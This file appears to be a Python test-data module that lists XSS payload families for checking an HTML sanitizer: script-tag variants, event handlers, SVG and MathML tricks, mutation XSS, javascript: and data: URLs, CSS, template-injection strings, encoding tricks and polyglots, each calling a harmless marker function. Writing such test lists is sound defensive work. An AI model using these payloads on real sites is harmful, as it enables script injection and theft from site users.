"""Well-known families of texts that run where they are not text. Each of them says `xss7`; a list, not code of the product."""

SCRIPTS = tuple(
    form.format(call="xss7()")
    for form in (
        *(
            "<script >{call}</script >",
            "<script\n>{call}</script\n>",
            "<script/x>{call}</script>",
            "<script\t>{call}//",
            "<script>{call}//<",
            "<<script>{call}//<</script>",
        ),
        *(
            "<scr<script>ipt>{call}</scr</script>ipt>",
            "<SCRIPT>{call}</SCRIPT>",
            "<script type=module>{call}</script>",
            "<script type='text/plain'>{call}</script>",
        ),
        *("<script async src=//xss7.example/a.js></script>", "<script src='data:,{call}'></script>", "<script src=\\\\xss7.example\\a></script>"),
        *("<script>\\u0078ss7()</script><!-- xss7 -->", "<script>window['xs'+'s7']()</script><b>xss7</b>", "<script>eval('{call}')</script>"),
        *(
            "<script>setTimeout('{call}')</script>",
            "<script>Function('{call}')()</script>",
            "<script><!--\n{call}\n--></script>",
            "<script>/*</script>*/{call}",
        ),
        *(
            "<script nonce=abc>{call}</script>",
            "<script xml:space='preserve'>{call}</script>",
            "</script><script >{call}</script >",
            "<noscript><p title='</noscript><img src=x onerror={call}>'>",
        ),
    )
)
ENDS = tuple(
    f"</{tag}><img src=x onerror=xss7()>"
    for tag in (
        "title",
        "textarea",
        "style",
        "script",
        "noscript",
        "template",
        "xmp",
        "iframe",
        "select",
        "option",
        "button",
        "a",
        "p",
        "td",
        "table",
        "svg",
        "math",
        "form",
    )
) + tuple(
    f"{end}<svg onload=xss7()>" for end in ("-->", "--!>", "]]>", "*/", "?>", "%>", "}}", "\\'>", '\\">', "&quot;>", "&#39;>", "`>", "</>", "<!>", "/>", ">")
)
HANDLERS = tuple(
    f"<{tag} {event}=xss7()>x"
    for tag, event in (
        *(
            ("img src=x", "onerror"),
            ("img src=x:x", "OnErRoR"),
            ("image src=x", "onerror"),
            ("audio src=x", "onerror"),
            ("video src=x", "onerror"),
            ("video autoplay src=x", "onloadstart"),
        ),
        *(
            ("body", "onpageshow"),
            ("body", "onhashchange"),
            ("body", "onscroll"),
            ("body", "onresize"),
            ("body", "onfocus"),
            ("frameset", "onload"),
            ("iframe", "onload"),
        ),
        *(("object data=x", "onerror"), ("embed src=x", "onload"), ("link rel=stylesheet href=x", "onerror"), ("style", "onload"), ("script src=x", "onerror")),
        *(
            ("select autofocus", "onfocus"),
            ("textarea autofocus", "onfocus"),
            ("button autofocus", "onfocus"),
            ("keygen autofocus", "onfocus"),
            ("div tabindex=0 autofocus", "onfocus"),
        ),
        *(
            ("input type=image src=x", "onerror"),
            ("input autofocus", "onblur"),
            ("form", "onsubmit"),
            ("form", "onreset"),
            ("input", "oninput"),
            ("input", "onchange"),
            ("input", "oninvalid"),
        ),
        *(
            ("details open", "ontoggle"),
            ("dialog open", "onclose"),
            ("marquee", "onstart"),
            ("marquee loop=1", "onfinish"),
            ("meter", "onmouseover"),
            ("progress", "onclick"),
        ),
        *(
            ("div", "onpointerenter"),
            ("div", "onpointerover"),
            ("div", "onmouseenter"),
            ("div", "onwheel"),
            ("div", "ondrag"),
            ("div", "ondrop"),
            ("div", "oncopy"),
            ("div", "onpaste"),
        ),
        *(
            ("div", "onanimationstart"),
            ("div", "ontransitionend"),
            ("div", "onbeforematch"),
            ("div", "onscrollend"),
            ("div", "oncontentvisibilityautostatechange"),
            ("p", "ondblclick"),
        ),
        *(
            ("a href=#", "onkeydown"),
            ("a href=#", "onauxclick"),
            ("b", "oncontextmenu"),
            ("track", "oncuechange"),
            ("bgsound", "onload"),
            ("isindex", "onload"),
            ("xss7", "onclick"),
        ),
    )
)
SVG_AND_MATH = (
    *(
        "<svg><animate onbegin=xss7() attributeName=x dur=1s>",
        "<svg><set onbegin=xss7() attributeName=x>",
        "<svg><animatetransform onbegin=xss7()>",
        "<svg><a><animate attributeName=href values=javascript:xss7() /><text>x</text></a>",
    ),
    *(
        "<svg><a xlink:href=javascript:xss7()><text>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=xss7()></svg>#x'>",
        "<svg><image href=x onerror=xss7()>",
        "<svg><foreignObject><body onload=xss7()>",
    ),
    *(
        "<svg><style><img src=x onerror=xss7()></style>",
        "<svg><title><img src=x onerror=xss7()></title>",
        "<svg><desc><script>xss7()</script>",
        "<svg><script href=data:,xss7() />",
        "<svg><script>xss7&#40;)</script>",
    ),
    *(
        "<svg xmlns:xlink=x><script xlink:href=//xss7.example/a /></svg>",
        "<svg><handler ev:event=load>xss7()</handler>",
        "<svg><discard onbegin=xss7()>",
        "<svg onunload=xss7()>",
        "<SVG ONLOAD=xss7()>",
    ),
    *(
        "<math><mtext><table><mglyph><style><img src=x onerror=xss7()>",
        "<math href=javascript:xss7()>x</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:xss7()>x</maction></math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=xss7()>",
    ),
)
# Filters that parse once and write again.
MUTATIONS = (
    *(
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss7()>",
        "<noscript><style></noscript><img src=x onerror=xss7()>",
        "<svg></p><style><a id='</style><img src=x onerror=xss7()>'>",
    ),
    *(
        "<math></p><style><!--</style><img src/onerror=xss7()>--></style>",
        "<svg><p><style><g title='</style><img src=x onerror=xss7()>'>",
        "<a href='</a><img src=x onerror=xss7()>'>x",
        "<p title='</p><img src=x onerror=xss7()>'>x",
    ),
    *(
        "<listing>&lt;img src=x onerror=xss7()&gt;</listing>",
        "<xmp><p title='</xmp><img src=x onerror=xss7()>'>",
        "<template><img src=x onerror=xss7()></template>",
        "<select><template shadowrootmode=open><img src=x onerror=xss7()>",
    ),
    *(
        "<table><tr><td><style></table><img src=x onerror=xss7()>",
        "<br><img src='`xss7()`' alt='``onerror=xss7()'>",
        "<img alt='``onload=xss7()' src=x>",
        "<div id='\n'><img src=x onerror=xss7()>",
        "<!--><img src=x onerror=xss7()>-->",
    ),
    *(
        "<!--[if gte IE 4]><script>xss7()</script><![endif]-->",
        "<![CDATA[<img src=x onerror=xss7()>]]>",
        "<?xml version='1.0'?><img src=x onerror=xss7()>",
        "<comment><img src='</comment><img src=x onerror=xss7()>'></comment>",
    ),
)
ADDRESSES = tuple(
    f'<a href="{address}">a</a>'
    for address in (
        *(
            "JaVaScRiPt:xss7()",
            "javascript&colon;xss7()",
            "javascript&#58;xss7()",
            "javascript&#x3a;xss7()",
            "&#x6a;avascript:xss7()",
            "&#0000106avascript:xss7()",
            "java&Tab;script:xss7()",
            "java&NewLine;script:xss7()",
        ),
        *(
            "java\nscript:xss7()",
            "java\r\nscript:xss7()",
            "\x01javascript:xss7()",
            "\x1fjavascript:xss7()",
            "\u00a0javascript:xss7()",
            "\u2028javascript:xss7()",
            "javascript://%0axss7()",
            "javascript://xss7.example/%0axss7()",
        ),
        *(
            "javascript:/*--></title></style></textarea></script><svg onload=xss7()>*/",
            "javascript:void(xss7())",
            "javascript:%78ss7()//xss7",
            "javascript:'<svg onload=xss7()>'",
            "view-source:javascript:xss7()",
            "feed:javascript:xss7()",
        ),
        *(
            "data:text/html;base64,PHN2ZyBvbmxvYWQ9eHNzNygpPg==#xss7",
            "data:text/html;charset=utf-7,+ADw-script+AD4-xss7()",
            "data:image/svg+xml,<svg onload=xss7()>",
            "data:application/xhtml+xml,<x xss7='1'/>",
            "DATA:TEXT/HTML,xss7",
            "vbscript:msgbox(xss7)",
        ),
        *(
            "livescript:xss7()",
            "mocha:xss7()",
            "blob:xss7",
            "filesystem:xss7",
            "jar:javascript:xss7()",
            "//xss7.example/",
            "\\\\xss7.example\\",
            "/\\xss7.example/",
            "https:xss7.example",
            "http://a@xss7.example/",
        ),
    )
)
PLACES = (
    *(
        '<img src="javascript:xss7()">',
        '<input type=image src="javascript:xss7()">',
        '<form><input formaction="javascript:xss7()" type=submit>',
        '<form action="javascript:xss7()">',
        '<video poster="javascript:xss7()">',
        '<body background="javascript:xss7()">',
    ),
    *(
        '<table background="javascript:xss7()">',
        '<frameset><frame src="javascript:xss7()">',
        '<applet code="javascript:xss7()">',
        '<isindex action="javascript:xss7()">',
        '<area href="javascript:xss7()">',
        '<base href="javascript:xss7()//">',
        '<link rel=import href="data:,xss7()">',
    ),
    *(
        '<iframe srcdoc="&lt;script&gt;parent.xss7()&lt;/script&gt;">',
        "<iframe srcdoc='<svg onload=top.xss7()>'>",
        '<iframe src="data:text/html,<script>parent.xss7()</script>">',
        "<portal src=javascript:xss7()>",
        '<object type="text/html" data="data:text/html,xss7">',
    ),
    *(
        '<object><param name=src value="javascript:xss7()"></object>',
        "<embed code=//xss7.example/a.swf>",
        '<meta http-equiv="refresh" content="0; url=data:text/html,xss7">',
        '<meta http-equiv="Set-Cookie" content="xss7=1">',
        '<meta http-equiv="Content-Security-Policy" content="xss7">',
    ),
    *(
        "<a href=# hx-on:click=xss7()>x</a>",
        "<a hx-vals='js:{x:xss7()}' hx-get=/>x</a>",
        "<div hx-get=//xss7.example/ hx-trigger=load>x</div>",
        "<div data-hx-on-click=xss7() data-hx-get=//xss7.example>x</div>",
        "<p data-controller=xss7 data-action='click->xss7'>x</p>",
    ),
)
STYLES = (
    *(
        "<div style=width:expression(xss7())>x</div>",
        "<div style=behavior:url(//xss7.example/a.htc)>x</div>",
        "<div style=-moz-binding:url(//xss7.example/a.xml)>x</div>",
        "<div style='background:url(//xss7.example/a)'>x</div>",
    ),
    *(
        "<style>*{background:url(//xss7.example/a)}</style>",
        "<style>@import 'javascript:xss7()';</style>",
        "<style>a{x:expression(xss7())}</style>",
        "<link rel=stylesheet href='data:text/css,*{x:xss7}'>",
        "<style>@font-face{font-family:x;src:url(//xss7.example/f)}</style>",
    ),
    *(
        "<p style='animation-name:x' onanimationend=xss7()>x</p>",
        "<div style='position:fixed;inset:0;z-index:9999' class=xss7>x</div>",
        "<style><!--</style><script>xss7()//--></script>",
    ),
)
QUOTES = (
    *(
        '"onfocus="xss7()"autofocus="',
        "'onfocus='xss7()'autofocus='",
        '" style="x:expression(xss7())" x="',
        '"/onmouseover="xss7()',
        "'/onmouseover='xss7()",
        '" autofocus onfocus=xss7() x="',
        '" accesskey=x onclick=xss7() x="',
    ),
    *(
        '";xss7();//',
        "';xss7();//",
        "\\';xss7();//",
        '\\";xss7();//',
        "`;xss7();//",
        "${xss7()}",
        "'-xss7()-'",
        '"-xss7()-"',
        "</script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+xss7()//'>",
    ),
    *(
        '" hx-on:load="xss7()" x="',
        '" hx-get="//xss7.example/" x="',
        '" srcdoc="<script>xss7()</script>',
        '" http-equiv="refresh" content="0;url=javascript:xss7()',
        "\"><base href='//xss7.example/'>",
    ),
)
TEMPLATES = (
    *(
        "{{xss7}}",
        "{% debug xss7 %}",
        "{{ request.user.password }}xss7",
        "{% include 'xss7' %}",
        "${{xss7()}}",
        "#{xss7()}",
        "<%= xss7() %>",
        "[[${xss7()}]]",
        "{{_self.env}}xss7",
        "{{''.__class__.__mro__}}xss7",
        "@(xss7())",
        "*{xss7()}",
    ),
    *(
        "{{[].pop.constructor('xss7()')()}}",
        "{{$on.constructor('xss7()')()}}",
        "ng-app ng-csp {{xss7}}",
        "<x v-on:click='xss7()' @click='xss7()'>x</x>",
        "<x x-data x-init='xss7()'>x</x>",
        "[xss7](javascript:xss7())",
        "![xss7](x 'onerror=xss7()')",
    ),
    *(
        "[xss7](<javascript:xss7()>)",
        "[a]: javascript:xss7()\n[a]",
        "<javascript:xss7()>",
        "**xss7<img src=x onerror=xss7()>**",
        "```\n</code></pre><script>xss7()</script>\n```",
        "# xss7 <svg onload=xss7()>",
    ),
)
LETTERS = (
    *(
        "＜script＞xss7()＜/script＞",
        "﹤img src=x onerror=xss7()﹥",
        "‹script›xss7()‹/script›",
        "\u202e<script>xss7()</script>",
        "\ufeff<script>xss7()</script>",
        "<\u200bscript>xss7()</script>",
        "<script\u2028>xss7()</script>",
        "<ſcript>xss7()</script>",
    ),
    *(
        "<ımg src=x onerror=xss7()>",
        "<img\u3000src=x\u3000onerror=xss7()>",
        "<img\x0csrc=x\x0conerror=xss7()>",
        "<img\x0bsrc=x onerror=xss7()>",
        "+ADw-script+AD4-xss7()+ADw-/script+AD4-",
        "%3Cscript%3Exss7()%3C/script%3E",
        "%253Cscript%253Exss7()",
    ),
    *(
        "\\x3cscript\\x3exss7()\\x3c/script\\x3e",
        "\\u003cimg src=x onerror=xss7()\\u003e",
        "&amp;lt;script&amp;gt;xss7()",
        "&lt;img src=x onerror=xss7()&gt;",
        "&#60;script&#62;xss7()&#60;/script&#62;",
        "&#x3c;svg onload=xss7()&#x3e;",
        "&LT;script&GT;xss7()",
        "%u003cscript%u003exss7()",
    ),
    *(
        "\ud7ff<svg onload=xss7()>\ue000",
        "中文<svg onload=xss7()>中文",
        "<svg onload=xss7()>\u0301\u0301\u0301",
        "<a\u00a0href=javascript:xss7()>x</a>",
        "<IMG SRC=X ONERROR=xss7()>",
        "<iMg/sRc=x/oNeRrOr=xss7()>",
    ),
)
POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=xss7() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=xss7()//>",
    '">><marquee><img src=x onerror=xss7()></marquee>"></plaintext\\></|\\><plaintext/onmouseover=xss7()>',
    "'\"--></style></script><svg/onload=xss7()>",
    'javascript:"/*\'/*`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=xss7()//>',
    '-->\'"/></sCript><svG x=">" onload=(xss7)``>',
    "'>\"><details/open/ontoggle=xss7()><!--",
    "*/xss7();/*\"'`></script></style><img src=x onerror=xss7()>",
)
FAMILIES = (*SCRIPTS, *ENDS, *HANDLERS, *SVG_AND_MATH, *MUTATIONS, *ADDRESSES, *PLACES, *STYLES, *QUOTES, *TEMPLATES, *LETTERS, *POLYGLOTS)
